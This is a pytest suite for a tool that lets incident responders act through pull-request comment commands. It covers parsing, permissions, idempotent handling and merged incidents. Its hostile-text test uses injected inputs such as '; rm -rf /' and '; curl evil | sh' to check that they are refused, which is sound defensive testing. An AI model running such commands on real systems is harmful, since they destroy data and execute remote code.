"""Responders act by commenting on the incident's pull request: every command, who may act, acting once, hostile
text, and a merged incident; against a real git repository with a bare remote, the local GitHub API server and a
real webhook receiver. Each ``watchbill comment --event-json`` call is one run of the comment workflow, from a
fresh checkout of main as the workflow has it."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from support.github_server import FakeGitHub
from support.org_repo import clone, git, make_repo, remote_branches, remote_file, remote_record
from support.orgfactory import SETTINGS as ORG_SETTINGS
from support.receivers import Receiver
from typer.testing import CliRunner

from watchbill.cli import app
from watchbill.incidents import comments
from watchbill.incidents.comments import CommandRefused
from watchbill.paging.journal import CLAIM_LEASE

BRANCH = "watchbill/inc-2026-0002"
RECORD = "incidents/2026/INC-2026-0002.yaml"
DECLARED = "2026-11-23T12:00:00Z"
AT = DECLARED
LOG = "comments/INC-2026-0002.jsonl"
SITE = Path(__file__).resolve().parents[2] / "site"

PEOPLE = """\
people:
  - id: alice
    name: Alice Example
    timezone: Europe/Berlin
    github: alice-gh
    contacts:
      hook: alice
  - id: bob
    name: Bob Example
    timezone: America/New_York
    github: Bob-GH
    contacts:
      hook: bob
  - id: carol
    name: Carol Example
    timezone: Europe/Berlin
"""


SETTINGS = (
    ORG_SETTINGS
    + """\
comments:
  guests:
    - github: Dana-Support
      commands: [update, note]
      reason: Customer support lead; posts the public updates
"""
)


def channels(port: int) -> str:
    return f"""\
channels:
  - id: hook
    name: Personal webhook
    kind: webhook
    url: json://127.0.0.1:{port}/person/{{address}}
    personal: true
"""


POLICY = """\
id: standard
name: Standard
steps:
  - after: 0m
    targets:
      - schedule:primary
"""


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    with Receiver() as listening:
        yield listening


@pytest.fixture
def repo(tmp_path: Path, receiver: Receiver) -> tuple[Path, Path]:
    files = {
        "policies/settings.yaml": SETTINGS,
        "schedules/people.yaml": PEOPLE,
        "policies/channels.yaml": channels(receiver.port),
        "policies/escalation/standard.yaml": POLICY,
    }
    return make_repo(tmp_path, files)


@pytest.fixture
def github(repo: tuple[Path, Path]) -> Iterator[FakeGitHub]:
    with FakeGitHub(bare=repo[1], actions_create_pulls=True) as server:
        yield server


@pytest.fixture
def pull(repo: tuple[Path, Path], github: FakeGitHub) -> int:
    """INC-2026-0002 declared with --pr: its record lives on its branch, its pull request is open."""
    work, _ = repo
    result = CliRunner().invoke(
        app,
        ["declare", "-t", "Checkout fails", "-s", "SEV-1", "--service", "api", "--pr", "-C", str(work), "--at", AT],
        env=github.env(),
    )
    assert result.exit_code == 0, result.output
    [opened] = github.pulls
    return opened.number


class Workflow:
    """One run of the comment workflow per call: a fresh checkout of main, the event file, the command."""

    def __init__(self, tmp_path: Path, remote: Path, github: FakeGitHub) -> None:
        self.tmp_path, self.remote, self.github = tmp_path, remote, github
        self.runs = 0

    def run(self, comment_id: int, action: str = "created", *, at: str = "2026-11-23T12:05:00Z") -> dict[str, Any]:
        self.runs += 1
        checkout = clone(self.remote, self.tmp_path / f"run-{self.runs}")
        event = self.tmp_path / f"event-{self.runs}.json"
        event.write_text(json.dumps(self.github.comment_event(comment_id, action)), encoding="utf-8")
        result = CliRunner().invoke(
            app,
            ["comment", "--event-json", str(event), "-C", str(checkout), "--at", at, "--format", "json"],
            env=self.github.env(),
        )
        assert result.exit_code == 0, result.output
        data: dict[str, Any] = json.loads(result.stdout)
        return data


@pytest.fixture
def workflow(tmp_path: Path, repo: tuple[Path, Path], github: FakeGitHub) -> Workflow:
    return Workflow(tmp_path, repo[1], github)


def replies(github: FakeGitHub, number: int) -> list[str]:
    return [body for body in github.comments(number) if comments.REPLY_MARKER in body]


# ---------------------------------------------------------------- parsing


def test_a_comment_that_does_not_start_with_a_slash_is_conversation() -> None:
    assert not comments.is_command("Looking into it now, /ack later")
    assert comments.is_command("\r\n  /ack")


def test_commands_parse_into_their_arguments() -> None:
    assert comments.parse("/STATUS Identified A bad deploy.\nRolling back.") == comments.Command(
        "status", text="A bad deploy.\nRolling back.", word="identified"
    )
    assert comments.parse("/assign technical-lead @bob-gh") == comments.Command(
        "assign", word="technical_lead", who="@bob-gh"
    )
    assert comments.parse("/page primary db looks stuck") == comments.Command(
        "page", text="db looks stuck", word="primary"
    )
    assert comments.parse("/severity sev-1") == comments.Command("severity", word="SEV-1")
    assert comments.parse("/resolve") == comments.Command("resolve")


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("/stauts identified x", "`/stauts` is not a command; the commands are: ack, status"),
        ("/status resolved done", "the status must be one of investigating, identified, monitoring"),
        ("/status identified", "`/status` needs the public text after the status"),
        ("/update", "`/update` needs text after it"),
        ("/assign commander", "name one role and one person"),
        ("/assign boss @bob-gh", "the role must be one of commander"),
        ("/note hi\x1b[31m", "the comment contains control characters"),
        ("/update \u202egnp.exe", "the comment contains control characters"),
        ("/note " + "x" * 5_000, "the text is 5,000 characters long; keep it under 4,000"),
        ("/note " + "x" * 7_000, "the comment is 7,006 characters long; commands take at most 6,000"),
    ],
)
def test_a_malformed_command_is_refused_with_what_to_write(body: str, reason: str) -> None:
    with pytest.raises(CommandRefused) as refused:
        comments.parse(body)
    assert str(refused.value).startswith(reason)


# ---------------------------------------------------------------- every command, from the pull request


def test_ack_from_a_comment_is_recorded_on_the_incident_branch_in_one_workflow_run(
    repo: tuple[Path, Path], github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    _, remote = repo
    comment = github.add_comment(pull, "/ack", login="alice-gh")
    data = workflow.run(comment)
    assert workflow.runs == 1
    assert (data["action"], data["command"], data["person"], data["incident"]) == (
        "done",
        "ack",
        "alice",
        "INC-2026-0002",
    )
    record = remote_record(remote, BRANCH, RECORD)
    assert record.acknowledged_at is not None and record.acknowledged_at.isoformat() == "2026-11-23T12:05:00+00:00"
    assert (record.timeline[-1].kind, record.timeline[-1].by) == ("acknowledged", "alice")
    assert github.reactions(comment) == ["+1"]
    [reply] = replies(github, pull)
    assert reply.startswith(
        f"{comments.REPLY_MARKER}\n@alice-gh `/ack`: INC-2026-0002 acknowledged at 2026-11-23T12:05:00Z"
    )
    assert f"Committed on `{BRANCH}`" in reply


@pytest.mark.slow
def test_every_command_changes_the_record_on_its_branch_and_says_so(
    repo: tuple[Path, Path], github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    _, remote = repo
    script = [
        ("/status identified A bad deploy of the payment gateway.", "12:06"),
        ("/update Rolling back now.", "12:07"),
        ("/severity SEV-2", "12:08"),
        ("/assign scribe @BOB-gh", "12:09"),
        ("/note Rollback started by `deploy --undo $(whoami)`", "12:10"),
        ("/mitigated", "12:11"),
        ("/resolve Payments work again.", "12:12"),
    ]
    for body, minute in script:
        data = workflow.run(github.add_comment(pull, body, login="alice-gh"), at=f"2026-11-23T{minute}:00Z")
        assert data["action"] == "done", data
        assert f"pull request #{pull}" in data["where"]
    record = remote_record(remote, BRANCH, RECORD)
    assert (record.status, record.severity, record.roles.scribe) == ("resolved", "SEV-2", "bob")
    assert [(u.status, u.message) for u in record.updates[1:]] == [
        ("identified", "A bad deploy of the payment gateway."),
        ("identified", "Rolling back now."),
        ("monitoring", "A fix has been applied and we are monitoring the results."),
        ("resolved", "Payments work again."),
    ]
    assert record.mitigated_at == datetime(2026, 11, 23, 12, 11, tzinfo=UTC)
    assert {"severity", "role", "mitigated", "status", "resolved"} <= {
        e.kind for e in record.timeline if e.by == "alice"
    }
    note = next(e for e in record.timeline if e.kind == "note" and e.by == "alice")
    assert note.message == "Rollback started by `deploy --undo $(whoami)`"  # data, never run
    assert len(replies(github, pull)) == len(script)
    assert github.issues[pull].title == "INC-2026-0002: Checkout fails [resolved]"


def test_page_sends_to_the_person_now_and_records_it(
    repo: tuple[Path, Path], github: FakeGitHub, pull: int, workflow: Workflow, receiver: Receiver
) -> None:
    _, remote = repo
    data = workflow.run(github.add_comment(pull, "/page @bob-gh the database is stuck on a lock", login="alice-gh"))
    assert data["action"] == "done", data
    [page] = [r for r in receiver.requests if r.path == "/person/bob"]
    assert "alice asks for your help" in page.json["title"]
    assert "the database is stuck on a lock" in page.json["message"]
    assert f"https://github.com/example/ops/pull/{pull}" in page.json["message"]
    event = remote_record(remote, BRANCH, RECORD).timeline[-1]
    assert (event.kind, event.target, event.via, event.by) == ("notified", "person:bob", "hook", "alice")
    assert event.step is None  # never taken for one of escalation's own steps
    assert "paged bob via hook" in replies(github, pull)[-1]


def test_page_to_a_schedule_reaches_whoever_is_on_call(
    github: FakeGitHub, pull: int, workflow: Workflow, receiver: Receiver
) -> None:
    data = workflow.run(github.add_comment(pull, "/page primary", login="bob-gh"))
    assert data["action"] == "done", data
    assert [r.path for r in receiver.requests if "asks for your help" in r.json["title"]] == ["/person/alice"]


# ---------------------------------------------------------------- who may act


def test_someone_not_in_the_roster_gets_a_polite_refusal_and_nothing_changes(
    repo: tuple[Path, Path], github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    _, remote = repo
    before = git(remote, "rev-parse", f"refs/heads/{BRANCH}")
    comment = github.add_comment(pull, "/resolve all good", login="mallory")
    data = workflow.run(comment)
    assert (data["action"], data["reason"]) == ("refused", "not a known responder")
    assert git(remote, "rev-parse", f"refs/heads/{BRANCH}") == before
    [reply] = replies(github, pull)
    assert "Thank you, @mallory. Only responders listed in `schedules/people.yaml`" in reply
    assert github.reactions(comment) == ["confused"]
    assert workflow.run(comment)["action"] == "repeated"  # re-delivered: no second refusal
    assert len(replies(github, pull)) == 1


def test_a_person_without_a_github_login_cannot_act_by_comment(
    github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    data = workflow.run(github.add_comment(pull, "/ack", login="carol"))
    assert data["action"] == "refused"


def test_a_guest_from_the_settings_gives_the_commands_listed_for_them_and_no_others(
    repo: tuple[Path, Path], github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    _, remote = repo
    update = workflow.run(github.add_comment(pull, "/update Card payments fail; we are on it.", login="dana-support"))
    assert (update["action"], update["person"]) == ("done", None)
    note = workflow.run(github.add_comment(pull, "/note Three customers called.", login="dana-support"))
    assert note["action"] == "done", note
    resolve = workflow.run(github.add_comment(pull, "/resolve", login="dana-support"))
    assert (resolve["action"], resolve["reason"]) == ("refused", "a guest may not give /resolve")
    record = remote_record(remote, BRANCH, RECORD)
    assert record.status == "investigating" and record.updates[-1].message == "Card payments fail; we are on it."
    [noted] = [e for e in record.timeline if e.kind == "note" and "customers called" in e.message]
    assert (noted.message, noted.by) == ("@dana-support (by comment): Three customers called.", None)
    assert replies(github, pull)[-1].endswith(
        "`/resolve` was not carried out: `policies/settings.yaml` lets @dana-support give `/update`, `/note` by "
        "comment, not `/resolve`; ask a responder listed in `schedules/people.yaml`. Nothing was changed."
    )


def test_bots_conversation_and_other_pull_requests_are_ignored(
    github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    assert (
        workflow.run(github.add_comment(pull, "/ack", login="watchbill[bot]", user_type="Bot"))["action"] == "ignored"
    )
    assert workflow.run(github.add_comment(pull, "on it", login="alice-gh"))["action"] == "ignored"
    other = github.open_issue("Unrelated", "text", login="alice-gh")
    data = workflow.run(github.add_comment(other, "/ack", login="alice-gh"))
    assert (data["action"], data["reason"]) == ("ignored", "not an incident's pull request or tracking issue")
    assert replies(github, pull) == [] and replies(github, other) == []


# ---------------------------------------------------------------- acting once


def test_a_re_delivered_comment_acts_once(
    repo: tuple[Path, Path], github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    _, remote = repo
    comment = github.add_comment(pull, "/update We rolled back the deploy.", login="alice-gh")
    assert workflow.run(comment)["action"] == "done"
    again = workflow.run(comment, at="2026-11-23T12:06:00Z")
    assert (again["action"], again["reason"]) == ("repeated", "already answered")
    record = remote_record(remote, BRANCH, RECORD)
    assert [u.message for u in record.updates].count("We rolled back the deploy.") == 1
    assert len(replies(github, pull)) == 1
    log = [json.loads(line) for line in remote_file(remote, "watchbill-data", LOG).splitlines()]
    assert [(e["comment"], e["kind"], e["login"]) for e in log] == [
        (comment, "claimed", "alice-gh"),
        (comment, "done", "alice-gh"),
    ]


class Killed(BaseException):
    """The run is killed between claiming a comment and acting on it (a cancelled job, a lost runner)."""


def test_a_comment_whose_run_was_killed_after_its_claim_acts_once_when_the_claim_expires(
    repo: tuple[Path, Path], github: FakeGitHub, pull: int, workflow: Workflow, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, remote = repo
    comment = github.add_comment(pull, "/update We rolled back the deploy.", login="alice-gh")

    def killed(context: object, command: object) -> None:
        raise Killed

    with monkeypatch.context() as patched:
        patched.setattr(comments, "_dispatch", killed)
        with pytest.raises(Killed):
            workflow.run(comment, at="2026-11-23T12:05:00Z")
    assert replies(github, pull) == []
    in_flight = workflow.run(comment, at="2026-11-23T12:19:59Z")  # the claim's lease is 15 minutes
    assert (in_flight["action"], in_flight["reason"]) == ("repeated", "being answered")
    assert workflow.run(comment, at="2026-11-23T12:20:00Z")["action"] == "done"
    for minute in ("20", "36", "59"):  # the new claim has its outcome: never again
        assert workflow.run(comment, at=f"2026-11-23T12:{minute}:30Z")["action"] == "repeated"
    record = remote_record(remote, BRANCH, RECORD)
    assert [u.message for u in record.updates].count("We rolled back the deploy.") == 1
    assert len(replies(github, pull)) == 1
    log = [json.loads(line) for line in remote_file(remote, "watchbill-data", LOG).splitlines()]
    assert [(e["kind"], e["at"]) for e in log] == [
        ("claimed", "2026-11-23T12:05:00Z"),
        ("claimed", "2026-11-23T12:20:00Z"),
        ("done", "2026-11-23T12:20:00Z"),
    ]


def test_a_claim_without_an_outcome_is_in_flight_until_its_lease_ends() -> None:
    claimed = [{"comment": 7, "kind": "claimed", "at": "2026-11-23T12:05:00Z", "digest": "d"}]
    at = datetime(2026, 11, 23, 12, 5, tzinfo=UTC)
    assert comments.decide(claimed, 7, "d", at + CLAIM_LEASE - timedelta(seconds=1)) == "in_flight"
    assert comments.decide(claimed, 7, "d", at + CLAIM_LEASE) == "act"
    assert comments.decide([{**claimed[0], "at": "garbled"}], 7, "d", at) == "act"  # would never end otherwise
    assert comments.decide(claimed, 8, "d", at) == "act"


def test_an_edited_comment_does_not_act_again_and_says_so_once(
    repo: tuple[Path, Path], github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    _, remote = repo
    comment = github.add_comment(pull, "/update First words.", login="alice-gh")
    workflow.run(comment)
    github.edit_comment(comment, "/update Second words.")
    edited = workflow.run(comment, "edited", at="2026-11-23T12:06:00Z")
    assert (edited["action"], edited["reason"]) == ("refused", "an edit of a comment that acted")
    assert "editing it does not act again" in replies(github, pull)[-1]
    assert workflow.run(comment, "edited", at="2026-11-23T12:07:00Z")["action"] == "repeated"
    messages = [u.message for u in remote_record(remote, BRANCH, RECORD).updates]
    assert "First words." in messages and "Second words." not in messages
    assert len(replies(github, pull)) == 2


def test_an_edit_that_fixes_a_refused_command_acts(
    repo: tuple[Path, Path], github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    _, remote = repo
    comment = github.add_comment(pull, "/stauts identified DNS", login="alice-gh")
    assert workflow.run(comment)["action"] == "refused"
    github.edit_comment(comment, "/status identified DNS")
    assert workflow.run(comment, "edited", at="2026-11-23T12:06:00Z")["action"] == "done"
    assert remote_record(remote, BRANCH, RECORD).status == "identified"


def test_a_deleted_comment_does_nothing(github: FakeGitHub, pull: int, workflow: Workflow, tmp_path: Path) -> None:
    comment = github.add_comment(pull, "/resolve", login="alice-gh")
    event = github.comment_event(comment)
    github.delete_comment(comment)
    path = tmp_path / "deleted.json"
    path.write_text(json.dumps(event))
    result = CliRunner().invoke(
        app, ["comment", "--event-json", str(path), "-C", str(workflow.remote.parent / "work")], env=github.env()
    )
    assert result.exit_code == 0, result.output
    assert "ignored" in result.output and replies(github, pull) == []


# ---------------------------------------------------------------- hostile text


def test_hostile_text_is_refused_or_kept_as_data(
    repo: tuple[Path, Path], github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    _, remote = repo
    before = remote_file(remote, BRANCH, RECORD)
    for body in ("/update ok\x00; rm -rf /", "/update " + "A" * 5_000, "/severity SEV-1; curl evil | sh"):
        data = workflow.run(github.add_comment(pull, body, login="alice-gh"))
        assert data["action"] == "refused", data
    assert remote_file(remote, BRANCH, RECORD) == before
    for reply in replies(github, pull):
        assert "rm -rf" not in reply and "curl" not in reply and "AAAA" not in reply


def test_a_command_that_does_not_apply_is_refused_with_the_reason(
    github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    data = workflow.run(github.add_comment(pull, "/severity SEV-9", login="alice-gh"))
    assert data["action"] == "refused"
    assert "unknown severity 'SEV-9'; known: SEV-1, SEV-2" in replies(github, pull)[-1]


# ---------------------------------------------------------------- a merged incident


@pytest.mark.slow
def test_on_a_merged_incident_ack_goes_to_the_data_branch_and_edits_to_a_new_pull_request(
    repo: tuple[Path, Path], github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    _, remote = repo
    git(remote, "update-ref", "refs/heads/main", f"refs/heads/{BRANCH}")  # merged (fast-forward), branch kept
    github.merge(pull)
    main_before = git(remote, "rev-parse", "refs/heads/main")
    ack = workflow.run(github.add_comment(pull, "/ack", login="bob-gh"))
    assert ack["action"] == "done" and "paging journal on `watchbill-data`" in ack["where"]
    journal = remote_file(remote, "watchbill-data", "paging/INC-2026-0002.jsonl")
    assert '"kind":"acknowledged"' in journal and '"by":"bob"' in journal
    update = workflow.run(
        github.add_comment(pull, "/update Still watching.", login="bob-gh"), at="2026-11-23T12:06:00Z"
    )
    assert update["action"] == "done", update
    [follow_up] = [p for p in github.pulls if p.number != pull]
    assert update["pull_request"]["number"] == follow_up.number and follow_up.state == "open"
    assert f"in a new pull request, #{follow_up.number}" in replies(github, pull)[-1]
    assert git(remote, "rev-parse", "refs/heads/main") == main_before  # no machine pushed to main
    assert git(remote, "rev-list", "--count", f"main..{BRANCH}") == "1"  # built on main: one new commit
    assert remote_record(remote, BRANCH, RECORD).updates[-1].message == "Still watching."
    assert "watchbill-data" in remote_branches(remote)


def test_a_tracking_issue_takes_commands_for_its_incident(
    repo: tuple[Path, Path], github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    _, remote = repo
    issue = github.open_issue("INC-2026-0002: Checkout fails", "tracking", labels=[comments.TRACKING_LABEL])
    data = workflow.run(github.add_comment(issue, "/note Customer success informed.", login="alice-gh"))
    assert data["action"] == "done", data
    assert remote_record(remote, BRANCH, RECORD).timeline[-1].message == "Customer success informed."
    assert len(replies(github, issue)) == 1


def test_a_github_login_github_would_refuse_is_a_located_error(tmp_path: Path) -> None:
    from support.orgfactory import PEOPLE as MINIMAL_PEOPLE
    from support.orgfactory import build_org

    people = MINIMAL_PEOPLE.replace(
        "    timezone: Europe/Berlin\n", "    timezone: Europe/Berlin\n    github: -alice\n", 1
    )
    root = build_org(tmp_path / "org", {"schedules/people.yaml": people})
    result = CliRunner().invoke(app, ["validate", str(root), "--at", DECLARED])
    assert result.exit_code == 1
    assert result.output.startswith(
        "schedules/people.yaml:5:13: error: people[0].github: the text '-alice' is not a GitHub login: letters, "
        "digits and single hyphens between them, not at either end [invalid-value]\n"
    )


def test_two_people_on_one_github_login_is_an_error_at_the_second(tmp_path: Path) -> None:
    from support.orgfactory import build_org

    people = PEOPLE.replace("Bob-GH", "Alice-gh").replace("    contacts:\n      hook: alice\n", "")
    root = build_org(tmp_path / "org", {"schedules/people.yaml": people})
    result = CliRunner().invoke(app, ["validate", str(root), "--at", DECLARED])
    assert result.exit_code == 1
    assert (
        "schedules/people.yaml:9:13: error: the GitHub login 'Alice-gh' is alice's already; a comment by it could "
        "not be told apart, so neither may act by comment until one is changed [duplicate-github-login]\n"
    ) in result.output


@pytest.mark.slow
def test_an_update_commented_on_the_pull_request_is_on_the_status_page_after_one_site_build(
    tmp_path: Path, github: FakeGitHub, pull: int, workflow: Workflow
) -> None:
    """The second "must reach" of the live loop: comment -> one workflow run -> one site build, before any merge."""
    words = "Payments are failing for card customers; we are rolling back."
    assert workflow.run(github.add_comment(pull, f"/status identified {words}", login="alice-gh"))["action"] == "done"
    checkout = clone(workflow.remote, tmp_path / "site-run")
    shutil.copytree(SITE, checkout / "site", ignore=shutil.ignore_patterns("public", "build"))  # as a team has it
    out = tmp_path / "site"
    result = CliRunner().invoke(
        app,
        ["site", "build", "--root", str(checkout), "--out", str(out), "--at", "2026-11-23T12:06:00Z"],
        env=github.env(),
    )
    assert result.exit_code == 0, result.output
    pages = [
        p for p in out.rglob("*") if p.is_file() and p.suffix in (".html", ".json") and words in p.read_text("utf-8")
    ]
    assert pages, "the update is on no page of the built site"


def test_the_settings_know_every_comment_command() -> None:
    from typing import get_args

    from watchbill.models.settings import CommentCommand

    assert set(get_args(CommentCommand)) == set(comments.USAGE)
